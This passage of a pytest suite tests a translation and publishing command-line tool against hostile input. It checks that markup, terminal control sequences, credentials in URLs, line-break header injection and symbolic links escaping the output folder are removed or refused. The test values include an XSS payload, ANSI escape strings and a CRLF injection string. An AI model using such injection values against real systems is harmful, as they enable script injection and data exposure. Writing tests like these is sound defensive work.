    return work / f"{SLUG}.ru.po"


def _translate_po(po_path: Path, translator: str, title: str | None = None, text: str | None = None) -> None:
    catalogue = polib.pofile(str(po_path))
    catalogue.metadata["Last-Translator"] = translator
    entries = [e for e in catalogue if e.msgid]
    for index, entry in enumerate(entries):
        if index == 0 and title is not None:
            entry.msgstr = title
        elif index == 1 and text is not None:
            entry.msgstr = text
        else:
            continue
        entry.flags = [f for f in entry.flags if f != "fuzzy"]
    catalogue.save(str(po_path))


def test_a_translators_title_with_markup_stays_out_of_the_md_front_matter(world):
    w = world
    po_path = _export_po(w, ARTICLE)
    _translate_po(po_path, "Farida Ahmadi", title='<img src=x onerror="alert(1)">Заголовок <script>x()</script>')
    imported = CliRunner().invoke(cli, ["import", str(po_path), "--source", str(ARTICLE), "--cache", str(w.cache)])
    assert imported.exit_code == 0, imported.output
    result = CliRunner().invoke(cli, w.publish(w.source(), formats="md"))
    assert result.exit_code == 0, result.output
    front = front_matter((w.out / SLUG / "ru" / f"{SLUG}.ru.md").read_text(encoding="utf-8"))
    assert "Заголовок" in front
    for needle in MARKUP:
        assert needle not in front.lower(), (needle, front)


EVIL_NAME = "Eve \x1b[31mRed\x1b[0m\x07 \u202eeviL\u202c \x9b2J"


def _clean_name(name: str) -> bool:
    return not SCREEN_CONTROLS.search(name) and "Eve" in name


def test_a_translator_name_with_controls_is_stored_shown_and_published_clean(world):
    w = world
    po_path = _export_po(w, ARTICLE)
    _translate_po(po_path, EVIL_NAME, title="Проверенный заголовок")
    imported = CliRunner().invoke(cli, ["import", str(po_path), "--source", str(ARTICLE), "--cache", str(w.cache)])
    assert imported.exit_code == 0, imported.output
    assert not SCREEN_CONTROLS.search(imported.output), repr(imported.output)
    stored = {h.translator for h in TranslationMemory(w.cache).all_human()}
    assert stored and all(_clean_name(name) for name in stored), stored
    review = CliRunner().invoke(cli, ["review", str(ARTICLE), "--to", "ru", "--models-dir", str(w.models),
                                      "--cache", str(w.cache), "--locales", str(w.locales),
                                      "--output", str(w.out)])
    assert review.exit_code == 0, review.output
    assert "approved by Eve" in review.output and not SCREEN_CONTROLS.search(review.output), repr(review.output)
    result = CliRunner().invoke(cli, w.publish(w.source(), formats="md"))
    assert result.exit_code == 0, result.output
    manifest = (w.out / SLUG / "manifest.json").read_text(encoding="utf-8")
    translators = json.loads(manifest)["editions"]["ru"]["review"]["translators"]
    assert translators and all(_clean_name(name) for name in translators), translators
    assert not SCREEN_CONTROLS.search(json.loads(manifest).__repr__())


def test_a_tmx_creationid_with_controls_is_stored_and_shown_clean(tmp_path):
    cache = tmp_path / "tm.sqlite3"
    good = 'Прочтите <ph x="2">{2/}</ph> <bpt i="1" x="1">{1}</bpt>список<ept i="1">{/1}</ept>.'
    who = EVIL_NAME.replace("\x1b", "&#27;").replace("\x07", "&#7;").replace("\x9b", "&#155;")
    # XML 1.0 cannot hold ESC or BEL even as references: a TMX with them is refused as not well formed;
    # what XML can hold (the bidi override, C1 controls) is removed.
    path = _tmx(tmp_path, good, who=EVIL_NAME.replace("\x1b", "").replace("\x07", ""))
    result = CliRunner().invoke(cli, ["memory", "import", "--tmx", str(path), "--cache", str(cache)])
    assert result.exit_code == 0, result.output
    (item,) = TranslationMemory(cache).all_human()
    assert _clean_name(item.translator), repr(item.translator)
    refused = CliRunner().invoke(cli, ["memory", "import", "--tmx", str(_tmx(tmp_path, good, who=who, name="b.tmx")),
                                       "--cache", str(cache)])
    assert refused.exit_code == 1 and "not well-formed" in refused.output, refused.output


def test_noncharacters_from_a_translator_keep_the_feed_well_formed(world):
    w = world
    po_path = _export_po(w, ARTICLE)
    _translate_po(po_path, "Farida Ahmadi", title="Заголовок \ufffe\uffff конец", text="Текст \uffff абзаца.")
    imported = CliRunner().invoke(cli, ["import", str(po_path), "--source", str(ARTICLE), "--cache", str(w.cache)])
    assert imported.exit_code == 0, imported.output
    result = CliRunner().invoke(cli, w.publish(w.source(), "--site-url", "https://news.example.org/"))
    assert result.exit_code == 0, result.output
    feed = (w.out / "ru" / "feed.atom").read_bytes()
    root = ET.fromstring(feed)     # well-formed XML
    assert "Заголовок" in "".join(root.itertext())
    for path in (w.out / SLUG).rglob("*"):
        if path.is_file() and path.suffix in (".md", ".html", ".json"):
            text = path.read_text(encoding="utf-8")
            assert "\ufffe" not in text and "\uffff" not in text, path


SECRET_URL = "https://editor:hunter2@news.example.org/dist/"


def _nothing_published_of(w, result):
    assert not (w.out / "site-url").exists(), "refused before anything was published"
    for path in w.out.rglob("*"):
        if path.is_file():
            assert b"hunter2" not in path.read_bytes(), path


def _site_article(w):
    return w.source("---\ntitle: T\nslug: site-url\n---\nRussia has removed the Taliban.\n", name="site-url.md")


@case("configuration: site_url with user:password@ in translate.toml", 1, r"translate\.toml: site_url",
      "user name or password", check=_nothing_published_of)
def _(w):
    config = w.tmp / "translate.toml"
    config.write_text(f'site_url = "{SECRET_URL}"\n')
    return w.publish(_site_article(w), "--config", str(config), formats="md")


@case("configuration: --site-url with user:password@", 2, "--site-url", "user name or password",
      check=_nothing_published_of)
def _(w):
    return w.publish(_site_article(w), "--site-url", SECRET_URL, formats="md")


@case("configuration: TRANSLATE_SITE_URL with user:password@", 2, "--site-url", "user name or password",
      check=_nothing_published_of)
def _(w):
    w.monkeypatch.setenv("TRANSLATE_SITE_URL", SECRET_URL)
    return w.publish(_site_article(w), formats="md")


@case("configuration: --site-url with CR LF", 2, "--site-url", r"line break|space", check=_nothing_published_of)
def _(w):
    return w.publish(_site_article(w), "--site-url", "https://news.example.org/\r\nX-Injected: hunter2",
                     formats="md")


@case("configuration: TRANSLATE_SITE_URL with CR LF", 2, "--site-url", r"line break|space",
      check=_nothing_published_of)
def _(w):
    w.monkeypatch.setenv("TRANSLATE_SITE_URL", "https://news.example.org/\r\n<b>hunter2</b>")
    return w.publish(_site_article(w), formats="md")


def test_a_tmx_import_records_the_file_name_not_its_path(tmp_path):
    cache = tmp_path / "tm.sqlite3"
    good = 'Прочтите <ph x="2">{2/}</ph> <bpt i="1" x="1">{1}</bpt>список<ept i="1">{/1}</ept>.'
    private = tmp_path / "home-alice-private-folder"
    path = _tmx(private, good)
    assert CliRunner().invoke(cli, ["memory", "import", "--tmx", str(path), "--cache", str(cache)]).exit_code == 0
    (item,) = TranslationMemory(cache).all_human()
    assert item.file == "mem.tmx"
    exported = tmp_path / "out.tmx"
    result = CliRunner().invoke(cli, ["memory", "export", "--tmx", str(exported), "--cache", str(cache)])
    assert result.exit_code == 0, result.output
    assert b"home-alice-private-folder" not in exported.read_bytes() and str(tmp_path).encode() not in \
        exported.read_bytes()


# --- 9. symbolic links ----------------------------------------------------------------------------


def _outside_empty(w, result):
    assert list((w.tmp / "outside").iterdir()) == [], "nothing was written through the link"


@case("output: output/<slug> is a link to a folder outside the output folder", 1, "symbolic link",
      re.escape(f"link-out"), check=_outside_empty)
def _(w):
    (w.tmp / "outside").mkdir()
    (w.out / "link-out").symlink_to(w.tmp / "outside", target_is_directory=True)
    return w.publish(w.source(f"---\ntitle: T\nslug: link-out\n---\n{BODY}", name="link-out.md"), formats="md")


@case("output: output/<slug>/ru is a link to a folder outside", 1, "symbolic link", r"link-ru/ru",
      check=_outside_empty)
def _(w):
    (w.tmp / "outside").mkdir()
    (w.out / "link-ru").mkdir()
    (w.out / "link-ru" / "ru").symlink_to(w.tmp / "outside", target_is_directory=True)
    return w.publish(w.source(f"---\ntitle: T\nslug: link-ru\n---\n{BODY}", name="link-ru.md"), formats="md")


def _fonts_outside(w, result):
    assert list((w.tmp / "outside").iterdir()) == [], "nothing was written through the link"


@case("output: the site's shared fonts/ folder is a link to a folder outside", 1, "symbolic link",
      r"out/fonts is a symbolic link", check=_fonts_outside, unchanged=False)
def _(w):
    # every page's web fonts are in output/fonts/ since issue 30
    (w.tmp / "outside").mkdir()
    shutil.rmtree(w.out / "fonts", ignore_errors=True)
    (w.out / "fonts").symlink_to(w.tmp / "outside", target_is_directory=True)
    return _changed_article(w)


@case("output: the bundles/ folder is a link to a folder outside", 1, "symbolic link",
      r"out/bundles is a symbolic link", check=_fonts_outside, unchanged=False)
def _(w):
    (w.tmp / "outside").mkdir()
    (w.out / "bundles").symlink_to(w.tmp / "outside", target_is_directory=True)
    return _changed_article(w)


def test_models_install_reads_no_model_card_through_a_link_out_of_the_folder(tmp_path, monkeypatch):
    from test_model_hub import build_nllb_checkpoint

    for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HF_HUB_OFFLINE", "HF_ENDPOINT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf-home"))
    checkpoint = build_nllb_checkpoint(tmp_path / "ckpt")
    secret = tmp_path / "private" / "notes.md"
    secret.parent.mkdir()
    secret.write_text("---\nlicense: alices-private-notes\n---\nmy sources: ...\n", encoding="utf-8")
    (checkpoint / "README.md").unlink()
    (checkpoint / "README.md").symlink_to(secret)
    store = tmp_path / "store"
    result = CliRunner().invoke(cli, ["models", "install", str(checkpoint), "--multilingual-dir", str(store),
                                      "--quantization", "float32"])
    assert result.exit_code == 0, result.output
    assert "README.md" in result.output and "link" in result.output, result.output
    meta = (store / "ckpt" / "translate-model.json").read_text(encoding="utf-8")
    assert "alices-private-notes" not in meta and json.loads(meta)["licence"] == ""
    for path in store.rglob("*"):
        if path.is_file():
            assert b"alices-private-notes" not in path.read_bytes(), path
    # a file the conversion needs, linked out of the folder: refused, nothing installed
    weights = checkpoint / "sentencepiece.bpe.model"
    secret.with_name("tokenizer").write_bytes(weights.read_bytes())
    weights.unlink()
    weights.symlink_to(secret.with_name("tokenizer"))
    refused = CliRunner().invoke(cli, ["models", "install", str(checkpoint), "--multilingual-dir",
                                       str(tmp_path / "store2"), "--quantization", "float32"])
    assert refused.exit_code == 1 and "sentencepiece.bpe.model is a link to" in refused.output, refused.output
    assert not (tmp_path / "store2" / "ckpt").exists()


# --- running the table (last: every row above is registered by now) ------------------------


@pytest.mark.parametrize("row", CASES, ids=[c.id for c in CASES])
def test_trust_case(row: Case, world: World, extra_models):
    run_catalogue_row(row, world, extra_models)
